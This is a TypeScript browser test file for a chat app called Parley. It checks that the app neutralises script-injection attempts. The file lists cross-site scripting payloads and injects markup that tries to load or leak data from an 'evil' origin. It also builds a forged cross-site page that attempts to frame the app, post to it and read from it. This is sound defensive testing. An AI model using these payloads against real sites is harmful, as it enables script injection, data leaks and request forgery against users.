import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { web } from '../../../src/adapters.ts';
import { type Parley, startParley } from '../../../src/parley.ts';
import { browserPath } from '../../support/browser.ts';
import { type TestDatabase, testDatabase } from '../../support/database.ts';
import { eventually } from '../../support/eventually.ts';
import { type Loopback, onLoopback } from '../../support/loopback.ts';
import { silent } from '../../support/queue.ts';
import { newKey, sampleConfig } from '../../support/web-desk.ts';
import { launchBrowser } from '../../support/web-page.ts';
import { tried } from '../payloads.ts';

// Thousands of requests, on a machine that may be busy.
vi.setConfig({ testTimeout: 120_000 });

/** Script attacks in a real browser: what people write, and what another site tries, runs nothing. */

const executable = browserPath();
if (!executable && process.env.CI === 'true')
  throw new Error('CI needs a Chromium for the attacks in a browser');
if (!executable) console.log('The attacks in a browser are skipped: there is no Chromium on this machine.');

/** Each would set `window.pwned` if it ran. */
const SCRIPTS = [
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>',
  '</script><script>window.pwned=1</script>',
  '</textarea><script>window.pwned=1</script>',
  '"><img src=x onerror=window.pwned=1>',
  "'-window.pwned=1-'",
  '[click](javascript:window.pwned=1)',
  '<a href="javascript:window.pwned=1">click</a>',
  'javascript:window.pwned=1',
  'data:text/html,<script>opener.pwned=1</script>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example/"><button>x</button></form>',
  '{{window.pwned=1}}#{window.pwned=1}',
  '\u2028window.pwned=1\u2029',
  '<!--<script>--><script>window.pwned=1</script>',
];
const NAME = '<img src=x onerror="window.pwned=1">';

let database: TestDatabase;
let folder: string;
let parley: Parley;
let browser: Browser;
let elsewhere: Loopback | undefined;
let origin: string;
let evil: string;
let evilPage = '';
beforeAll(async () => {
  if (!executable) return;
  database = await testDatabase();
  folder = await mkdtemp(join(tmpdir(), 'parley-script-'));
  const config = await sampleConfig((sample) => ({
    ...sample,
    name: `Parley ${NAME}</title></script>`,
    web: {
      ...sample.web,
      sampleData: false,
      people: sample.web.people.map((person) =>
        person.id === 'lin' ? { ...person, name: `Lin ${NAME}` } : person,
      ),
    },
  }));
  parley = await startParley({
    environment: { port: 0, databaseUrl: database.url, dataDir: folder },
    config,
    log: silent,
    adapters: [web(config)],
  });
  origin = `http://localhost:${parley.port}`;
  elsewhere = await onLoopback((_request, response) =>
    response.setHeader('content-type', 'text/html').end(evilPage),
  );
  evil = `${elsewhere.origin}/`;
  browser = await launchBrowser(executable);
}, 60_000);
afterAll(async () => {
  if (!executable) return;
  await browser?.close();
  await elsewhere?.stop();
  await parley?.stop();
  await database?.drop();
  await rm(folder, { recursive: true, force: true });
});

/** Opens a page that notes what its policy refuses and whatever asks for attention. */
async function open(
  url: string,
): Promise<{ page: Page; violations: () => Promise<string[]>; dialogs: string[] }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const noted: string[] = [];
    Object.defineProperty(window, 'noted', { value: noted });
    document.addEventListener('securitypolicyviolation', (event) => noted.push(event.effectiveDirective));
  });
  await page.goto(url);
  return { page, dialogs, violations: () => page.evaluate('window.noted') };
}

const say = (text: string, room: string, as = 'lin', files: string[] = []) =>
  fetch(`${origin}/web/messages?as=${as}`, {
    method: 'POST',
    headers: { 'x-parley': '1', 'sec-fetch-site': 'same-origin', 'content-type': 'application/json' },
    body: JSON.stringify({ key: newKey(), room, text, mentions: [], files }),
  });

it.skipIf(!executable)(
  'what people write, call themselves and attach is shown and runs nothing',
  async ({ task }) => {
    for (const text of SCRIPTS) expect((await say(text, 'general')).status).toBe(200);
    const uploaded = await fetch(`${origin}/web/files?as=lin`, {
      method: 'POST',
      headers: {
        'x-parley': '1',
        'sec-fetch-site': 'same-origin',
        'content-type': 'image/svg+xml',
        'x-file-name': encodeURIComponent(`${NAME}.svg`),
      },
      body: '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script></svg>',
    });
    const { fileId } = (await uploaded.json()) as { fileId: string };
    const posted = (await (await say('a picture', 'general', 'lin', [fileId])).json()) as { id: string };

    const room = await open(`${origin}/rooms/general?as=sam`);
    await room.page.getByText('a picture', { exact: true }).waitFor();
    for (const text of [SCRIPTS[0] ?? '', SCRIPTS[2] ?? '', SCRIPTS[7] ?? '']) {
      await room.page.locator('.words', { hasText: text }).first().waitFor();
    }
    expect(
      await room.page.locator('.words img, .words svg, .words script, .words iframe, .words style').count(),
    ).toBe(0);
    expect(
      await room.page
        .locator('a[href^="javascript:" i], a[href^="data:" i], [onerror], [onload], [onclick]')
        .count(),
    ).toBe(0);

    // The same words in a card: the draft that the bot makes of them.
    await say(`${SCRIPTS[0]} my monitor stays black ${SCRIPTS[1]}`, '@lin');
    const direct = await open(`${origin}/direct?as=lin`);
    await direct.page.locator('.card', { hasText: 'onerror' }).first().waitFor();
    expect(await direct.page.locator('.card img, .card svg, .card script').count()).toBe(0);

    // The file by itself is saved, not shown.
    const saved = direct.page.waitForEvent('download');
    await direct.page.goto(`${origin}/web/files/${posted.id}/${fileId}?as=sam`).catch(() => undefined);
    expect((await saved).suggestedFilename()).toContain('.svg');

    for (const { page, dialogs, violations } of [room, direct]) {
      expect(await page.evaluate('window.pwned')).toBeUndefined();
      expect(dialogs).toEqual([]);
      // Nothing was even there for the policy to refuse.
      expect(await violations()).toEqual([]);
    }
    tried(task, SCRIPTS.length * 2 + 3);
  },
);

it.skipIf(!executable)(
  'markup that got into the page all the same would run nothing and load nothing',
  async ({ task }) => {
    const { page, violations } = await open(`${origin}/rooms/general?as=sam`);
    await page.locator('.pane.room').waitFor();
    const pieces = [
      '<img src=x onerror="window.pwned=1">',
      '<svg onload="window.pwned=1"></svg>',
      `<iframe src="${evil}"></iframe>`,
      '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
      '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
      '<style>body{display:none}</style>',
      `<link rel="stylesheet" href="${evil}x.css">`,
      `<img src="${evil}leak.png">`,
      '<a id="js" href="javascript:window.pwned=1">x</a>',
      `<form id="out" action="${evil}"><input name="leak" value="1"></form>`,
    ];
    await page.evaluate((markup) => {
      for (const one of markup) document.body.insertAdjacentHTML('beforeend', one);
      const script = document.createElement('script');
      script.textContent = 'window.pwned=1';
      document.body.append(script);
      document.getElementById('js')?.click();
      (document.getElementById('out') as HTMLFormElement | null)?.submit();
    }, pieces);
    // As text: the test runner rewrites imports in functions.
    const outcomes: string[] = await page.evaluate(`(async () => {
      const told = [];
      const attempt = async (name, make) => {
        try { await make(); told.push(name); } catch { told.push('refused'); }
      };
      // In a turn of its own: what a debugger evaluates may do more than the page may.
      await new Promise((done) => setTimeout(done));
      await attempt('made a function', () => new Function('window.pwned=1')());
      await attempt('made code of text', () => (0, eval)('window.pwned=1'));
      await attempt('imported', () => import('${evil}x.js'));
      await attempt('fetched', () => fetch('${evil}leak', { mode: 'no-cors' }));
      await attempt('started a worker', () => new Promise((done, fail) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = done;
        worker.onerror = fail;
      }));
      await attempt('listened', () => new Promise((done, fail) => {
        const source = new EventSource('${evil}');
        source.onopen = done;
        source.onerror = fail;
      }));
      return told;
    })()`);
    expect(new Set(outcomes)).toEqual(new Set(['refused']));
    await eventually(async () => new Set(await violations()).size >= 5);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(new URL(page.url()).origin).toBe(origin);
    tried(task, pieces.length + outcomes.length);
  },
);

it.skipIf(!executable)(
  'another site can neither frame the desk, nor post to it, nor read from it',
  async ({ task }) => {
    const text = 'forged by another site';
    const body = JSON.stringify({ key: 'forged-by-site', room: 'general', text, mentions: [], files: [] });
    evilPage = `<!doctype html><iframe id="desk" src="${origin}/?as=sam"></iframe>
    <form id="form" method="post" enctype="text/plain" target="desk" action="${origin}/web/messages?as=sam">
      <input name='${body.slice(0, -1)},"x":"' value='"}'></form>
    <script>
      window.told = [];
      const send = (init) => fetch('${origin}/web/messages?as=sam', { method: 'POST', body: ${JSON.stringify(body)}, ...init })
        .then(() => told.push('sent'), () => told.push('refused'));
      Promise.allSettled([
        send({ mode: 'no-cors' }),
        send({ headers: { 'content-type': 'application/json', 'x-parley': '1' } }),
        send({ mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' } }),
        fetch('${origin}/web/state?as=sam').then((r) => r.text()).then(() => told.push('read'), () => told.push('unread')),
      ]).then(() => { document.getElementById('form').submit(); window.over = true; });
    </script>`;
    const { page } = await open(evil);
    await eventually(async () => (await page.evaluate('window.over')) === true);
    await eventually(() => page.frames().length > 1);
    await eventually(() =>
      page
        .frames()
        .slice(1)
        .every((frame) => !frame.url().startsWith(origin)),
    );
    expect(await page.evaluate('window.told')).not.toContain('read');
    const state = await fetch(`${origin}/web/rooms/general/messages?as=sam`);
    expect(await state.text()).not.toContain(text);
    tried(task, 6);
  },
);
